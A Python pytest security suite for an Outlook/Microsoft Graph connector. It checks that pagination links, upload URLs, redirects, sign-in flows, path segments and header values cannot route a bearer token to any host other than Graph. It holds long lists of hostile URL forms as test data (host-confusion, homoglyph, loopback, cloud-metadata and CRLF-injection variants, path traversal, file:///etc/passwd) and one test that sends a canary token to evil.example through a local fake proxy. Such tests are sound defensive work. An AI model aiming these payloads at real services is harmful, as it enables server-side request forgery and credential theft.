"""A Graph that has been tampered with leads the connector elsewhere: no token and no request gets there.

The connector's proxy is the whole internet: Graph is one name in it, and everything else is the attacker.
"""

from __future__ import annotations

import base64
import json
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import requests

from outlook_connector import Connector, ConnectorError, connect

from .proxy import Certificates, Heard, Proxy, Said, serve

GRAPH, TOKEN = "graph.contoso.example", "canary-token"
API = f"https://{GRAPH}/v1.0"
SECRET = "canary-secret"

PLACES = (
    "https://evil.example{path}",
    "https://evil.example:443{path}",
    "//evil.example{path}",
    "http://127.0.0.1:{plain}{path}",
    "http://localhost:{plain}{path}",
    "https://evil.example\\@{graph}{path}",
    "https://evil.example#@{graph}{path}",
    "https://evil.example?@{graph}{path}",
    "https://evil.example/@{graph}{path}",
    "https://evil.example\t@{graph}{path}",
    "https://{graph}@evil.example{path}",
    "https://{graph}:443@evil.example{path}",
    "https://{graph}%40evil.example{path}",
    "https://{graph}\\@evil.example{path}",
    "https://{graph}\\.evil.example{path}",
    "https://{graph}\t.evil.example{path}",
    "https://{graph}.evil.example{path}",
    "https://{graph}evil.example{path}",
    "https://{graph}:8443{path}",
    "https://{graph}:44３{path}",
    "https://grаph.contoso.example{path}",
    "https://xn--grph-43d.contoso.example{path}",
    "https://graph。contoso。example.evil.example{path}",
    "https://ｇraph.contoso.example:8443{path}",
    "https://graph.contoso.example。evil.example{path}",
    "https://127.0.0.1:8443{path}",
    "https://2130706433:8443{path}",
    "https://0x7f.1:8443{path}",
    "https://[::1]:8443{path}",
    "https://[::ffff:127.0.0.1]:8443{path}",
    "https://[::ffff:7f00:1%25eth0]:8443{path}",
    "https://[evil.example]{path}",
    "https:\\\\evil.example{path}",
    "https:/\tevil.example{path}",
    " https://evil.example{path}",
    "\thttps://evil.example{path}",
    "https:evil.example{path}",
    "https:///evil.example{path}",
    "/\\evil.example{path}",
    "ftp://evil.example{path}",
    "file:///etc/passwd",
    "https://evil.example\x00.{graph}{path}",
    "https://evil.example\r\nHost: {graph}{path}",
    "https://",
    "https://:443{path}",
    "",
)
"""Where no token may go; the connection's Graph is ``graph``."""

OWN = (
    "https://{graph}:443{path}",
    "https://GRAPH.contoso.example{path}",
    "HTTPS://{graph}{path}",
    "https://{graph}.{path}",
    "https://user:word@{graph}{path}",
    "https://@{graph}{path}",
    "https://{graph}/v1.0/../beta/me/messages",
    "https://{graph}/v1.0/%2e%2e/beta/me/messages",
    "https://{graph}/beta/me/messages",
    "https://{graph}\\v1.0/me/messages",
    "https://{graph}/v1.0\\..\\beta/me/messages",
)
"""Other ways to write the connection's own host, or another API of it: none is needed, and none is followed."""


@dataclass
class Net:
    """The internet: what ``script`` answers as Graph, and what was heard there and elsewhere."""

    script: Callable[[Heard], Said | None] = lambda heard: None
    graph: list[Heard] = field(default_factory=list)
    elsewhere: list[Heard] = field(default_factory=list)
    plain: list[bytes] = field(default_factory=list)
    proxy: str = ""
    authorities: str = ""
    plain_port: int = 0

    def respond(self, heard: Heard) -> Said:
        if heard.target != f"{GRAPH}:443":
            self.elsewhere.append(heard)
            return Said()
        self.graph.append(heard)
        return self.script(heard) or Said(404, {}, b'{"error": {"code": "ErrorItemNotFound"}}')

    def address(self, form: str, path: str = "/v1.0/me/messages") -> str:
        return form.format(graph=GRAPH, plain=self.plain_port, path=path)

    @property
    def leaks(self) -> list[Any]:
        """All that came to any other place."""
        return [*self.elsewhere, *self.plain]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    certificates, net = Certificates(), Net()

    def tunnel(connection: socket.socket, target: str) -> None:
        with certificates.wrap(connection, target) as tls:
            serve(tls, target, net.respond)

    with Proxy(tunnel) as proxy, socket.create_server(("127.0.0.1", 0)) as plain:
        net.proxy, net.plain_port = proxy.url, plain.getsockname()[1]
        net.authorities = certificates.write(tmp_path_factory.mktemp("rogue") / "ca.pem")
        threading.Thread(target=_listen, args=(plain, net.plain), daemon=True).start()
        yield net


def _listen(plain: socket.socket, heard: list[bytes]) -> None:
    """Without TLS: notes what comes, and hangs up."""
    while True:
        try:
            connection, _ = plain.accept()
        except OSError:
            return
        with connection:
            heard.append(connection.recv(4096))


@pytest.fixture
def net(world: Net) -> Net:
    world.graph.clear()
    world.elsewhere.clear()
    world.plain.clear()
    world.script = lambda heard: None
    return world


@pytest.fixture
def connector(net: Net, tmp_path: Path) -> Iterator[Connector]:
    config = {
        "accessToken": TOKEN,
        "graphUrl": API,
        "tokenStore": "memory:",
        "files": {"allow": [str(tmp_path)]},
        "operations": {"allow": ["*", "graph.request", "graph.batch"]},
        "http": {"proxy": net.proxy, "caBundle": net.authorities, "attempts": 1, "timeout": 5},
    }
    with connect(config) as made:
        yield made


def says(**answer: Any) -> Said:
    return Said(200, {"Content-Type": "application/json"}, json.dumps(answer).encode())


def links(name: str, link: str) -> Callable[[Heard], Said | None]:
    """Every list leads to ``link``."""
    return lambda heard: says(value=[{"id": "x", "@odata.etag": "x"}], **{f"@odata.{name}": link})


def everything(connector: Connector, name: str, given: dict[str, Any]) -> None:
    """Runs it, and goes on with what it gave, as a flow would."""
    answer = connector.invoke(name, given)
    cursor = answer.get("nextCursor") or answer.get("cursor")
    connector.invoke(name, {**given, "cursor": cursor})


def test_the_attacker_hears_what_is_sent_to_it(net: Net) -> None:
    """The others can fail: whoever sends a token elsewhere is heard."""
    proxies, headers = {"https": net.proxy}, {"Authorization": f"Bearer {TOKEN}"}
    for place in ("https://evil.example/x", "https://[::1]:8443/x", f"https://{GRAPH}:8443/x"):
        requests.get(place, proxies=proxies, headers=headers, verify=net.authorities, timeout=5)
    assert [one.headers["Authorization"] for one in net.elsewhere] == [f"Bearer {TOKEN}"] * 3


@pytest.mark.parametrize("form", [*PLACES, *OWN])
@pytest.mark.parametrize(
    ("name", "link", "given"),
    [
        ("messages.list", "nextLink", {"limit": 1}),
        ("messages.changes", "nextLink", {"folder": "inbox", "limit": 1}),
        ("messages.changes", "deltaLink", {"folder": "inbox"}),
        ("folders.changes", "deltaLink", {}),
    ],
)
def test_a_link_that_leads_elsewhere_is_not_followed(
    name: str, link: str, given: dict[str, Any], form: str, net: Net, connector: Connector
) -> None:
    net.script = links(link, net.address(form))
    with pytest.raises(ConnectorError) as caught:
        everything(connector, name, given)
    assert not net.leaks
    assert len(net.graph) == 1, "one answer, and nothing after it"
    assert caught.value.code in ("unexpectedResponse", "invalidInput")


@pytest.mark.parametrize("form", [*PLACES, *OWN])
def test_a_listing_that_goes_on_by_itself_stops_at_such_a_link(
    form: str, net: Net, connector: Connector
) -> None:
    net.script = links("nextLink", net.address(form))
    if not form:
        pytest.skip("no link is the end")
    with pytest.raises(ConnectorError):
        list(connector.iterate("messages.list", {"pageSize": 1}))
    assert not net.leaks


UPLOAD = {"name": "large.bin", "contentBytes": base64.b64encode(bytes(3 << 20)).decode()}


def uploading(address: str) -> Callable[[Heard], Said | None]:
    def script(heard: Heard) -> Said | None:
        if heard.path.endswith("/createUploadSession"):
            return says(uploadUrl=address, nextExpectedRanges=["0-"])
        if heard.method == "PUT":
            return Said(201, {"Location": f"https://{GRAPH}/x/Attachments('new')"}, b"")
        return None

    return script


@pytest.mark.parametrize("form", [*PLACES, *OWN])
def test_an_upload_carries_no_token_wherever_it_goes(form: str, net: Net, connector: Connector) -> None:
    net.script = uploading(net.address(form, "/upload?authtoken=x"))
    try:
        connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    except ConnectorError as error:
        assert error.code == "unexpectedResponse" or net.elsewhere
    assert not net.plain, "nothing goes without TLS"
    for heard in net.elsewhere:
        assert "Authorization" not in heard.headers
        assert TOKEN not in str(heard)
    assert not [one for one in net.graph if one.method == "PUT" and "Authorization" in one.headers]


@pytest.mark.parametrize(
    "form",
    [
        *(
            "http://127.0.0.1:{plain}{path}",
            "https://user:word@{graph}{path}",
            "https://evil.example\\@{graph}{path}",
        ),
        *("https://127.0.0.1:8443{path}", "https://[::1]:8443{path}", "https://localhost:8443{path}"),
        *("https://169.254.169.254{path}", "https://10.0.0.1{path}", "https://2130706433:8443{path}"),
        "https://grаph.contoso.example{path}",
    ],
)
def test_an_upload_goes_to_no_address_that_a_service_would_not_name(
    form: str, net: Net, connector: Connector
) -> None:
    """Plain HTTP, names in two readings, and the machines of one's own network."""
    net.script = uploading(net.address(form, "/upload?authtoken=x"))
    with pytest.raises(ConnectorError) as caught:
        connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    assert caught.value.code == "unexpectedResponse"
    assert not net.leaks


def test_an_upload_to_the_right_host_carries_no_token_either(net: Net, connector: Connector) -> None:
    net.script = uploading(f"https://{GRAPH}/upload?authtoken=x")
    connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    put = [one for one in net.graph if one.method == "PUT"]
    assert put
    assert not [one for one in put if "authorization" in str(one.headers).lower() or TOKEN in str(one)]


CALLS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("messages.get", {"messageId": "m" * 80}),
    ("messages.update", {"messageId": "m" * 80, "isRead": True}),
    ("messages.send", {"to": ["kim@contoso.example"], "subject": "x"}),
    ("messages.delete", {"messageId": "m" * 80}),
    ("messages.getMime", {"messageId": "m" * 80}),
    ("graph.batch", {"requests": [{"method": "GET", "path": "/messages"}]}),
)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize(("name", "given"), CALLS, ids=[name for name, _ in CALLS])
def test_a_redirect_is_followed_nowhere(
    name: str, given: dict[str, Any], status: int, net: Net, connector: Connector
) -> None:
    for place in (
        "https://evil.example/x",
        f"https://{GRAPH}:8443/x",
        "http://127.0.0.1:{plain}/x",
        "/v1.0/me/y",
    ):
        location = net.address(place)
        net.script = lambda heard, location=location: Said(status, {"Location": location}, b"")  # type: ignore[misc]
        net.graph.clear()
        with pytest.raises(ConnectorError):
            connector.invoke(name, given)
        assert len(net.graph) == 1
    assert not net.leaks


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_an_upload_that_is_redirected_goes_nowhere_else(status: int, net: Net, connector: Connector) -> None:
    begin = uploading(f"https://{GRAPH}/upload?authtoken=x")

    def script(heard: Heard) -> Said | None:
        if heard.method == "PUT":
            return Said(status, {"Location": "https://evil.example/upload"}, b"")
        return begin(heard)

    net.script = script
    with pytest.raises(ConnectorError):
        connector.invoke("attachments.add", {"messageId": "m" * 80, "attachment": UPLOAD})
    assert not net.leaks


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_sign_in_that_is_redirected_goes_nowhere_else(status: int, net: Net) -> None:
    def script(heard: Heard) -> Said | None:
        if heard.method == "POST":
            return Said(status, {"Location": "https://evil.example/token"}, b"{}")
        root = f"https://{GRAPH}/tenant"
        endpoints = {"authorization_endpoint": root + "/authorize", "token_endpoint": root + "/token"}
        return says(**endpoints, issuer=f"https://{GRAPH}/tenant/v2.0")

    net.script = script
    config = {
        "auth": "application",
        "clientId": "app",
        "clientSecret": SECRET,
        "authority": f"https://{GRAPH}/tenant",
        "graphUrl": API,
        "mailbox": "kim@contoso.example",
        "tokenStore": "memory:",
        "http": {"proxy": net.proxy, "caBundle": net.authorities, "attempts": 1, "timeout": 5},
    }
    with connect(config) as made, pytest.raises(ConnectorError):
        made.invoke("messages.list")
    assert [one for one in net.graph if one.method == "POST"], "the sign-in got as far as its redirect"
    assert not net.leaks


@pytest.mark.parametrize(
    "path",
    [
        *("//evil.example/messages", "/../../evil.example", "/messages/../../../beta/me", "@evil.example"),
        *("/messages@evil.example", "https://evil.example", "/messages/%2e%2e/%2e%2e", "/\\evil.example"),
        *("/messages?x#y", "/messages/\t//evil.example", "/messages/%0d%0aHost:%20evil.example"),
    ],
)
def test_a_path_of_a_flow_leads_to_the_mailbox_or_nowhere(path: str, net: Net, connector: Connector) -> None:
    with pytest.raises(ConnectorError):
        connector.invoke("graph.request", {"method": "GET", "path": path})
    assert not net.leaks
    assert all(one.path.startswith("/v1.0/me/messages") for one in net.graph)


@pytest.mark.parametrize(
    "value",
    [
        "../../../evil",
        "x/../..",
        "x@evil.example",
        "\\\\evil.example",
        "?x",
        "#x",
        "%2e%2e",
        "https://evil.example",
        ".",
    ],
)
@pytest.mark.parametrize("name", ["messageId", "mailbox", "folder"])
def test_a_value_of_a_flow_stays_one_segment_of_the_path(
    name: str, value: str, net: Net, connector: Connector
) -> None:
    given = {"messageId": {"messageId": value}, "mailbox": {"messageId": "x", "mailbox": value}}.get(name)
    try:
        connector.invoke("messages.list" if given is None else "messages.get", given or {"folder": value})
    except ConnectorError:
        assert not net.leaks
    for heard in net.graph:
        segments = heard.path.partition("?")[0].split("/")
        assert segments[1] == "v1.0"
        assert not {".", ".."} & set(segments)
        assert segments[2] in ("me", "users")


def test_what_a_server_sets_as_a_cookie_is_not_carried_about(net: Net, connector: Connector) -> None:
    def script(heard: Heard) -> Said | None:
        cookie = {"Set-Cookie": "who=adele; Domain=contoso.example; Path=/; Secure"}
        return Said(200, {"Content-Type": "application/json", **cookie}, b'{"id": "x"}')

    net.script = script
    for _ in range(2):
        connector.invoke("messages.get", {"messageId": "m" * 80, "select": ["id"]})
    assert not [one for one in net.graph if "Cookie" in one.headers]


@pytest.mark.parametrize("line", ["evil.example\r\nX: y", "x\ny", "x\0y", "x\u2028y"])
def test_no_line_break_gets_into_a_header_or_an_address(line: str, net: Net, connector: Connector) -> None:
    tries: tuple[tuple[str, dict[str, Any]], ...] = (
        ("messages.send", {"to": [f"{line}@contoso.example"]}),
        ("messages.send", {"to": [{"name": line, "address": "kim@contoso.example"}]}),
        ("messages.send", {"to": ["kim@contoso.example"], "headers": {"X-Own": line}}),
        (
            "messages.send",
            {"to": ["kim@contoso.example"], "subject": line.replace("\0", "\n").replace("\u2028", "\n")},
        ),
        ("messages.get", {"messageId": line}),
        ("graph.request", {"method": "GET", "path": "/messages", "headers": {"If-Match": line}}),
        ("graph.request", {"method": "GET", "path": f"/messages/{line}"}),
    )
    for name, given in tries:
        with pytest.raises(ConnectorError):
            connector.invoke(name, given)
    assert not net.graph
